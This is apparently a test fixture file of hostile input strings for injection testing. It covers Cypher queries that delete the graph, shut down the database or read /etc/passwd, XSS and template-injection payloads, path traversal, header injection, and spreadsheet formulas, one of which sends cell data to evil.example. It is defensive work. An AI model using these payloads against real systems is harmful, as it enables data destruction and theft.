/** What would run as Cypher where a text were made part of a statement. */
const CYPHER = [
  `'}) DETACH DELETE n //`,
  `"}) WITH 1 AS x MATCH (n) SET n.hacked = true RETURN n //`,
  '`) MATCH (n) DETACH DELETE n //',
  `' OR 1=1 CALL dbms.shutdown() YIELD x RETURN x //`,
  `\\' LOAD CSV FROM 'file:///etc/passwd' AS line CREATE (:Hacked {line: line}) //`,
  '$id',
  '\\u0027}) MATCH (n) DETACH DELETE n //',
];

/** What means something to Lucene, well formed or not. */
const LUCENE = [
  '*',
  '*:*',
  'name:*',
  '(a OR',
  '"never closed',
  'AND OR NOT && || !',
  '/.*.*.*.*x/',
  '/(a|b/',
  '[a TO *]',
  '{a TO',
  'a~2147483647',
  'a^99999999999',
  '+ - \\ ~ ^ : ? { } [ ] ( ) /',
  '\\',
  'doi:10.1/"/\\',
  '1234567890"\\/:*',
];

const OTHER = [
  '<script>window.hacked = true</script>',
  '"><img src=x onerror="window.hacked = true">',
  '</script><script>window.hacked = true</script>',
  'javascript:window.hacked=true',
  '{{constructor.constructor("window.hacked=true")()}}',
  '$t(assistant.nothing)',
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  '%00',
  'a\0b',
  '\u{202E}ecnatsni-kcah\u{202C}',
  '\u{200F}\u{200B}\u{FEFF}',
  '\u{D800}',
  'a\u{DC00}b',
  '\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}',
  'e\u{301}'.repeat(60),
  '\u{1}\u{7}\u{1B}[31m\u{7F}\u{9B}',
  'a\r\nSet-Cookie: hacked=1',
  ' ',
  'a'.repeat(500),
  'mot '.repeat(125),
  'a '.repeat(250),
  'x'.repeat(100_000),
];

/** What a spreadsheet runs. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\u{FF1D}1+1',
  '\u{FF0B}1',
  '\u{FF0D}1+1',
  '\u{FF20}SUM(1)',
];

/** Texts that mean something to whatever they should never be a part of. */
export const TEXTS = [...CYPHER, ...LUCENE, ...OTHER, ...FORMULAS];
